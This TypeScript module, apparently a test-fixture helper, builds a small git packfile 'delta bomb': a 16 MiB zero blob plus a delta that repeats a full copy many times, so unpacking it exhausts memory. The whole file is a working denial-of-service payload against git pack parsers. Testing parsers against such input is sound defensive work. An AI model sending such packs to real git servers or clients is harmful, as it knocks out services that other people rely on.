import { createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'

/**
 * A pack of some 17 KB with two blobs: 16 MiB of zeros, and "copy all of it" so many times, which nobody can unpack in less memory than
 * that (gitformat-pack(5)).
 */
export function deltaBomb(times: number): Buffer {
  const size = 0xffffff
  const copy = Buffer.from([0xf0, 0xff, 0xff, 0xff])
  const delta = Buffer.concat([lengthOf(size), lengthOf(size * times), ...Array.from({ length: times }, () => copy)])
  const base = Buffer.concat([header(3, size), deflateSync(Buffer.alloc(size))])
  const objects = [base, header(6, delta.length), offsetOf(base.length), deflateSync(delta)]
  const pack = Buffer.concat([Buffer.from('PACK'), Buffer.from([0, 0, 0, 2, 0, 0, 0, 2]), ...objects])
  return Buffer.concat([pack, createHash('sha1').update(pack).digest()])
}

function header(type: number, size: number): Buffer {
  const bytes = [(type << 4) | (size & 15)]
  for (let rest = Math.floor(size / 16); rest > 0; rest = Math.floor(rest / 128)) {
    bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) | 0x80
    bytes.push(rest & 0x7f)
  }
  return Buffer.from(bytes)
}

function lengthOf(size: number): Buffer {
  const bytes: number[] = []
  for (let rest = size; rest > 0; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | (rest >= 128 ? 0x80 : 0))
  return Buffer.from(bytes)
}

/** Three bytes at most. */
function offsetOf(back: number): Buffer {
  const offset = [back & 0x7f]
  for (let rest = (back >> 7) - 1; rest >= 0; rest = (rest >> 7) - 1) offset.unshift(0x80 | (rest & 0x7f))
  return Buffer.from(offset)
}
